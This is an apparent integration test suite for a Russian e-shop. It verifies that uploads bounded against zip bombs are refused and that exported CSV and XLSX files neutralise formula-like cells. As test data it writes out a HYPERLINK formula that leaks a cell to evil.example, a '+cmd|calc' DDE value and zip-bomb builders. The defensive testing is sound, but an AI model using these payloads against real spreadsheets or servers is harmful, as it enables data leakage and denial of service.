import type { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { IMPORT_LIMITS } from '../../server/infrastructure/admin-catalogue/import-table';
import { parseImportTable } from '../../server/infrastructure/admin-catalogue/import-table-runner';
import {
  ADMIN_EMAIL,
  ADMIN_PASSWORD,
  Browser,
  type ShopTestApp,
  startShopApp,
} from './support/session-client';
import { testDrivers } from './support/test-database';
import { xlsxWithSheet } from './support/zip-file';

/**
 * Issue 24, items 4 and 6. Imports are bounded before parsing and parsed off the event loop: zip bombs
 * are refused with a Russian 4xx naming the limit while shoppers keep being answered. Every CSV the
 * shop writes (products, orders, dictionaries) neutralises cells that start like a formula; the XLSX
 * exports write such text as text, never as a formula cell.
 */
const MiB = 1024 * 1024;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Скидка")';
const SHEET_HEAD =
  '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
const SHEET_TAIL = '</sheetData></worksheet>';

/** Sheet XML of `bytes` bytes: the same row over and over (what a zip bomb packs). */
function repetitiveSheet(bytes: number): Buffer {
  const sheet = Buffer.alloc(bytes, '<row><c t="inlineStr"><is><t>Артикул</t></is></c></row>');
  sheet.write(SHEET_HEAD, 0);
  sheet.write(SHEET_TAIL, bytes - SHEET_TAIL.length);
  return sheet;
}

/** The bombs, built once: deflating 108 MB takes a while. */
let bombs: { honest: Buffer; liar: Buffer } | undefined;
function zipBombs(): { honest: Buffer; liar: Buffer } {
  if (bombs === undefined) {
    const sheet = repetitiveSheet(108 * 1000 * 1000);
    // The liar's directory says 64 KiB (ratio and sum pass); the entry really inflates to 108 MB.
    bombs = { honest: xlsxWithSheet(sheet), liar: xlsxWithSheet(sheet, 64 * 1024) };
  }
  return bombs;
}

interface Refusal {
  error: string;
  message: string;
}

describe.each(testDrivers())('import limits and safe exports (%s)', (driver) => {
  let shop: ShopTestApp;
  let admin: Browser;
  let categorySlug = '';
  let productIds: number[] = [];

  beforeAll(async () => {
    shop = await startShopApp(driver);
    await shop.app.listen({ port: 0, host: '127.0.0.1' });
    admin = new Browser(shop.app);
    expect((await admin.login(ADMIN_EMAIL, ADMIN_PASSWORD, '/api/admin-login')).statusCode).toBe(200);
    const [category] = await shop.database.rows<{ slug: string }>(
      sql`SELECT c.slug FROM categories c JOIN products p ON p.category_id = c.id ORDER BY p.id LIMIT 1`,
    );
    categorySlug = String(category?.slug);
    productIds = (
      await shop.database.rows<{ id: number }>(sql`SELECT id FROM products ORDER BY id LIMIT 2`)
    ).map((row) => Number(row.id));
  }, 120_000);
  afterAll(async () => {
    await shop?.close();
  });

  const upload = (file: Buffer, name = 'товары.xlsx') => {
    const boundary = '----import-limits-boundary';
    const payload = Buffer.concat([
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
      ),
      file,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    return shop.app.inject({
      method: 'POST',
      url: '/api/admin/products/import',
      remoteAddress: admin.ip,
      payload,
      headers: {
        origin: 'http://shop.test',
        cookie: [admin.cookie, admin.deviceCookie].filter(Boolean).join('; '),
        'content-type': `multipart/form-data; boundary=${boundary}`,
      },
    });
  };
  const refusalOf = (response: { statusCode: number; body: string }): Refusal & { status: number } => ({
    status: response.statusCode,
    ...(JSON.parse(response.body) as Refusal),
  });

  it('a zip bomb (2 MB → 108 MB of sheet XML) is refused with a 413 naming the unpacked-size limit', async () => {
    const bomb = zipBombs().honest;
    expect(bomb.length).toBeLessThan(IMPORT_LIMITS.maxInflatedBytes / 10);
    const refusal = refusalOf(await upload(bomb));
    expect(refusal).toMatchObject({ status: 413, error: 'xlsx_too_large' });
    expect(refusal.message).toBe(
      'Файл XLSX после распаковки больше 64 МБ: разделите его на части или загрузите CSV.',
    );
  });

  it('an entry packed more than 200× is refused before anything inflates it', async () => {
    const refusal = refusalOf(await upload(xlsxWithSheet(repetitiveSheet(20 * MiB))));
    expect(refusal).toMatchObject({ status: 413, error: 'xlsx_compression_ratio' });
    expect(refusal.message).toContain('200');
  });

  it('a zip whose directory understates its sizes is refused having inflated no more than it declared', async () => {
    const refusal = refusalOf(await upload(zipBombs().liar));
    expect(refusal).toMatchObject({ status: 413, error: 'xlsx_too_large' });
  });

  it('rows, columns and cells over the limits are refused with a 413 naming the limit', async () => {
    const header = 'Артикул;Название;Цена\n';
    const rows = refusalOf(await upload(Buffer.from(header + 'A-1;Стул;100\n'.repeat(20_001)), 'много.csv'));
    expect(rows).toMatchObject({ status: 413, error: 'too_many_rows' });
    expect(rows.message).toBe('Не больше 20\u00a0000 строк за раз: разделите файл на части.');
    const wide = refusalOf(await upload(Buffer.from(`${'x;'.repeat(300)}x\n`), 'широко.csv'));
    expect(wide).toMatchObject({ status: 413, error: 'too_many_columns' });
    expect(wide.message).toBe('Не больше 200 столбцов в файле.');
    // A sheet whose one cell sits at row 30 000: refused by its number, before any row is walked.
    const far = xlsxWithSheet(
      Buffer.from(
        `${SHEET_HEAD}<row r="30000"><c r="A30000" t="inlineStr"><is><t>x</t></is></c></row>${SHEET_TAIL}`,
      ),
    );
    expect(refusalOf(await upload(far))).toMatchObject({ status: 413, error: 'too_many_rows' });
  });

  it('the parsing worker is stopped at its time limit and answers a Russian 422', async () => {
    const table = await parseImportTable(Buffer.from('Артикул;Цена\nA-1;100\n'), {
      ...IMPORT_LIMITS,
      parseTimeMs: 0,
    });
    expect(table).toMatchObject({ ok: false, status: 422, code: 'import_too_slow' });
    expect(await parseImportTable(Buffer.from('Артикул;Цена\nA-1;100\n'))).toEqual([
      ['Артикул', 'Цена'],
      ['A-1', '100'],
    ]);
  });

  it('shoppers are answered while bombs and a large workbook are refused or parsed (p95 under 1 s)', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Товары');
    sheet.addRow(['Артикул', 'Название', 'Цена', 'Категория (slug)', 'Описание']);
    for (let n = 0; n < 3_000; n++) {
      sheet.addRow([`LOAD-${n}`, `Стул ${n}`, 1000 + n, categorySlug, 'Описание товара '.repeat(30)]);
    }
    const large = Buffer.from(await workbook.xlsx.writeBuffer());
    const files = [zipBombs().honest, zipBombs().liar, large];
    // Shoppers over real HTTP: each request passes through the event loop, as in production.
    const { port } = shop.app.server.address() as AddressInfo;
    const paths = ['/api/products?limit=24', '/api/categories', `/api/products/${productIds[0]}`];
    const latencies: number[] = [];
    const statuses = new Set<number>();
    let adminDone = false;
    const browse = async (shopper: number) => {
      // Bounded: at most 3 000 requests a shopper, and never past the admin's last upload by more than 5.
      for (let n = 0; n < 3_000 && (!adminDone || n < 5); n++) {
        const started = performance.now();
        const response = await fetch(`http://127.0.0.1:${port}${paths[(n + shopper) % paths.length]}`);
        await response.arrayBuffer();
        latencies.push(performance.now() - started);
        statuses.add(response.status);
      }
    };
    const adminWork = (async () => {
      try {
        const answers = [];
        for (const file of files) answers.push(await upload(file));
        return answers;
      } finally {
        adminDone = true;
      }
    })();
    await Promise.all([browse(0), browse(1), browse(2), browse(3), adminWork]);
    expect([...statuses].every((status) => status < 500)).toBe(true);
    const [bomb, liar, parsed] = await adminWork;
    expect(bomb?.statusCode).toBe(413);
    expect(liar?.statusCode).toBe(413);
    expect(parsed?.statusCode, parsed?.body).toBe(200);
    expect(parsed?.json()).toMatchObject({ created: 3_000, errors: 0 });
    latencies.sort((a, b) => a - b);
    const p95 = latencies[Math.floor(latencies.length * 0.95)] ?? Number.POSITIVE_INFINITY;
    // A fault-tolerance bound, not a speed figure: before this, one bomb stalled every request for
    // minutes. Generous for a loaded 2-core machine.
    expect(latencies.length).toBeGreaterThan(20);
    expect(p95).toBeLessThan(1_000);
  }, 180_000);

  it('the products CSV neutralises formula-like text; the XLSX writes it as text; the file re-imports unchanged', async () => {
    const created = await admin.post('/api/admin/products', {
      sku: 'CSV-INJ-1',
      name: FORMULA,
      price: 12_345,
      category_id: (
        await shop.database.rows<{ id: number }>(sql`SELECT id FROM categories WHERE slug = ${categorySlug}`)
      )[0]?.id,
      collection: '@SUM(1+1)',
      brand: '-10+20',
      country: '+Россия',
      stock: 3,
    });
    expect(created.statusCode, created.body).toBe(201);
    const csv = await admin.get('/api/admin/products/export?q=CSV-INJ-1&format=csv');
    const [header, row] = parse(csv.body, { bom: true, delimiter: ';' }) as string[][];
    const cell = (name: string) => row?.[header?.indexOf(name) ?? -1];
    expect(cell('Название')).toBe(`'${FORMULA}`);
    expect(cell('Коллекция')).toBe("'@SUM(1+1)");
    expect(cell('Бренд')).toBe("'-10+20");
    expect(cell('Страна')).toBe("'+Россия");
    // Numbers the shop writes stay numbers.
    expect(cell('Цена')).toBe('12345');
    expect(cell('Остаток')).toBe('3');

    const xlsx = await admin.get('/api/admin/products/export?q=CSV-INJ-1&format=xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(new Uint8Array(xlsx.rawPayload).buffer);
    const types: number[] = [];
    book.worksheets[0]?.eachRow((sheetRow) => {
      sheetRow.eachCell((sheetCell) => {
        types.push(sheetCell.type);
      });
    });
    expect(types).not.toContain(ExcelJS.ValueType.Formula);
    expect(book.worksheets[0]?.getRow(2).getCell(2).value).toBe(FORMULA);

    // The neutralised CSV goes back in as it came out: no change, no quote kept.
    const again = await upload(Buffer.from(csv.rawPayload), 'export.csv');
    expect(again.statusCode, again.body).toBe(200);
    expect(again.json()).toMatchObject({ errors: 0, created: 0, updated: 0, unchanged: 1 });
  });

  it('a row that cannot be written at confirm rolls the whole import back and is named (409)', async () => {
    const csv = [
      'Артикул;Название;Адрес (slug);Категория (slug);Цена;Остаток',
      `ALL-1;Первый;all-or-nothing-1;${categorySlug};100;4`,
      `ALL-2;Второй;all-or-nothing-2;${categorySlug};200;5`,
    ].join('\n');
    const dry = await upload(Buffer.from(csv), 'все-или-ничего.csv');
    expect(dry.json()).toMatchObject({ created: 2, errors: 0 });
    // Between the dry run and the confirm someone takes the second row's address.
    const [category] = await shop.database.rows<{ id: number }>(
      sql`SELECT id FROM categories WHERE slug = ${categorySlug}`,
    );
    const taken = await admin.post('/api/admin/products', {
      name: 'Занял адрес',
      slug: 'all-or-nothing-2',
      price: 1,
      category_id: Number(category?.id),
    });
    expect(taken.statusCode, taken.body).toBe(201);
    const token = (dry.json() as { token: string }).token;
    const confirm = await admin.post(`/api/admin/products/import/${token}/confirm`);
    expect(confirm.statusCode, confirm.body).toBe(409);
    expect(refusalOf(confirm)).toMatchObject({ error: 'import_row_failed' });
    expect(refusalOf(confirm).message).toContain('строка 3 (ALL-2)');
    // Nothing of it was written: not even the first row.
    for (const sku of ['ALL-1', 'ALL-2']) {
      expect((await admin.get(`/api/admin/products?q=${sku}`)).json()).toMatchObject({ total: 0 });
    }
  });

  it('the orders CSV neutralises a guest’s formula-like name and keeps amounts as numbers', async () => {
    const buyer = new Browser(shop.app);
    const placed = await buyer.post('/api/orders', {
      cart: [{ id: productIds[0], quantity: 1 }],
      contact: { name: FORMULA, phone: '+7 812 555 12 34', email: 'formula@shop.test' },
      delivery: { method: 'courier', address: '@Санкт-Петербург, Литейный пр-т 10' },
      paymentMethod: 'on_delivery',
      consent: true,
    });
    expect(placed.statusCode, placed.body).toBe(201);
    const id = (placed.json() as { id: number }).id;
    const csv = await admin.get('/api/admin/orders/export?format=csv');
    expect(csv.statusCode, csv.body).toBe(200);
    const records = parse(csv.body, { bom: true, delimiter: ';' }) as string[][];
    const row = records.find((record) => record[0] === String(id));
    expect(row?.[3]).toBe(`'${FORMULA}`);
    expect(row?.[4]).toMatch(/^'\+7/);
    expect(row?.[7]).toBe("'@Санкт-Петербург, Литейный пр-т 10");
    // An amount with Russian Excel's decimal comma («12345,00»), never neutralised.
    expect(row?.[13]).toMatch(/^\d+,\d{2}$/);
    expect(Number(row?.[13]?.replace(',', '.'))).toBeGreaterThan(0);
    const xlsx = await admin.get('/api/admin/orders/export?format=xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(new Uint8Array(xlsx.rawPayload).buffer);
    const names: unknown[] = [];
    book.worksheets[0]?.eachRow((sheetRow) => {
      sheetRow.eachCell((sheetCell) => {
        expect(sheetCell.type).not.toBe(ExcelJS.ValueType.Formula);
      });
      names.push(sheetRow.getCell(4).value);
    });
    expect(names).toContain(FORMULA);
  });

  it('the dictionaries CSV neutralises formula-like values', async () => {
    const created = await admin.post('/api/dicts/colors', { key: 'formula-colour', value: '+cmd|calc' });
    expect(created.statusCode, created.body).toBe(201);
    const csv = await admin.get('/api/dicts/export?name=colors');
    const records = parse(csv.body, { bom: true, delimiter: ';' }) as string[][];
    expect(records.find((record) => record[2] === 'formula-colour')?.[3]).toBe("'+cmd|calc");
  });
});
